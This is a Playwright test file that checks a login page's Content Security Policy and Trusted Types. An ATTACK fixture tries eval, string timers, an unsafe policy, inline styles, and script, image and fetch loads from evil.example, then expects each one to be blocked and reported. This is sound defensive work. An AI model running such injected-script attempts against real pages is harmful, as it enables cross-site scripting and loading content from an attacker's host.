import { expect, test } from './support/fixtures.ts'

/** Tries what a script that got in would try, as one text to be run in a page; returns what was not refused. */
const ATTACK = `async () => {
  const done = []
  const tries = {
    html: () => { document.body.innerHTML += '<b>planted</b>' },
    code: () => setTimeout('window.planted = true', 0),
    evaluated: () => eval('window.planted = true'),
    policy: () => window.trustedTypes.createPolicy('evil', { createHTML: (text) => text }),
    worker: () => new Worker('/assets/planted.js'),
    script: () => Object.assign(document.createElement('script'), { src: 'https://evil.example/planted.js' }),
    inline: () => Object.assign(document.createElement('script'), { textContent: 'window.planted = true' }),
  }
  // Past this moment the browser no longer helps whoever drives it.
  await new Promise((later) => setTimeout(later))
  for (const [name, run] of Object.entries(tries))
    try {
      run()
      done.push(name)
    } catch {}
  const image = new Image()
  const failed = new Promise((later) => image.addEventListener('error', later, { once: true }))
  image.src = 'https://evil.example/planted.png'
  const sheet = document.createElement('style')
  sheet.append(':root { --planted: 1 }')
  const element = document.createElement('p')
  element.setAttribute('style', '--planted: 1')
  document.body.append(image, sheet, element)
  const planted = (of) => getComputedStyle(of).getPropertyValue('--planted')
  if (planted(document.documentElement) !== '') done.push('style')
  if (planted(element) !== '') done.push('style of an element')
  await fetch('https://evil.example/planted').then(() => done.push('fetch'), () => {})
  await failed
  if ('planted' in window) done.push('ran')
  return done
}`

type Told = { 'csp-report': { 'effective-directive': string; 'blocked-uri': string } }

test('What others plant in a page does not run, loads nothing, and is reported [X-15]', async ({
  page,
  visit,
  t,
  expectViolations,
}) => {
  expectViolations()
  const elsewhere: string[] = []
  const reported: string[] = []
  page.on('requestfinished', async (request) => {
    const { origin, pathname } = new URL(request.url())
    if (origin !== new URL(visit.world.product).origin) elsewhere.push(request.url())
    if (pathname !== '/csp-report') return
    const { 'csp-report': told } = request.postDataJSON() as Told
    reported.push(`${(await request.response())?.status()} ${told['effective-directive']} ${told['blocked-uri']}`)
  })
  await page.goto('/auth/login')
  await expect(page.getByRole('heading', { level: 1, name: t('login.title') })).toBeVisible()
  expect(await page.evaluate(`(${ATTACK})()`), 'what went through').toEqual([])
  await expect
    .poll(() => [...new Set(reported)].toSorted())
    .toEqual([
      '204 connect-src https://evil.example/planted',
      '204 img-src https://evil.example/planted.png',
      '204 require-trusted-types-for trusted-types-sink',
      '204 style-src-attr inline',
      '204 style-src-elem inline',
      '204 trusted-types trusted-types-policy',
    ])
  expect(elsewhere).toEqual([])
})
